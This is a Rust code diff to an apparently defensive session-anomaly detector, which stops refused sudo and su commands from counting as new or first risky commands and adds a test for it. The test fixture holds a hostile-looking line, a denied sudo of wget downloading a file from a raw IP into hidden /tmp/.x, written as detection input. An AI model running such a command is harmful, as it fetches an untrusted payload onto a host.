@@ -682,7 +682,10 @@ impl Baselines {
                 }
             }
             let mut fresh: Vec<&str> = Vec::new();
-            for name in session.commands.iter().flat_map(|c| command_names(c)) {
+            // A refused command did not run (the escalation features count
+            // it): it is no new habit, and `sudo(denied: ...)` no name.
+            let ran_commands = session.commands.iter().filter(|c| !crate::privilege::is_refused(c));
+            for name in ran_commands.flat_map(|c| command_names(c)) {
                 if !u.knows_command(command_hash(name)) && !fresh.contains(&name) {
                     fresh.push(name);
                 }
@@ -707,10 +710,13 @@ impl Baselines {
         }
 
         // A risky command is a first when the user never ran that program.
-        let risky_first = session.commands.iter().filter(|c| is_risky_command(c)).any(|c| match known {
-            None => true,
-            Some(u) => command_names(c).any(|name| !u.knows_command(command_hash(name))),
-        });
+        let risky_first =
+            session.commands.iter().filter(|c| is_risky_command(c) && !crate::privilege::is_refused(c)).any(|c| {
+                match known {
+                    None => true,
+                    Some(u) => command_names(c).any(|name| !u.knows_command(command_hash(name))),
+                }
+            });
         if risky_first {
             n.first_risky_command = true;
             let chain = describe_risky_chain(session.commands).unwrap_or_else(|| "ran a risky command".into());
@@ -1041,6 +1047,22 @@ mod tests {
         assert!(b.learn(&SessionFacts::new("alice", ip("198.51.100.40"), start, &f, &cmds, false), false));
         let n = b.novelty(&SessionFacts::new("alice", ip("203.0.113.50"), start + DAY, &f, &cmds, false));
         assert!(!n.first_root_shell && !n.escalation_is_new(), "{n:?}");
+    }
+
+    #[test]
+    fn a_refused_command_is_neither_a_new_command_nor_a_first_risky_one() {
+        let b = alice_at_home();
+        let start = T0 + 22 * DAY + 10 * 3600;
+        let f = fp(10, 25.0, 2, 0, Protocol::Ssh);
+        let cmds: Vec<String> = vec![
+            "systemctl status nginx".into(),
+            "sudo(denied: command not allowed) /usr/bin/wget http://198.18.7.3/k -O /tmp/.x".into(),
+            "su(denied) root".into(),
+        ];
+        let n = b.novelty(&SessionFacts::new("alice", ip("198.51.100.40"), start, &f, &cmds, false));
+        assert_eq!(n.new_commands, 0, "{n:?}");
+        assert!(!n.first_risky_command, "it never ran: {n:?}");
+        assert!(n.reasons.iter().all(|r| !r.contains("denied")), "{:?}", n.reasons);
     }
 
     #[test]
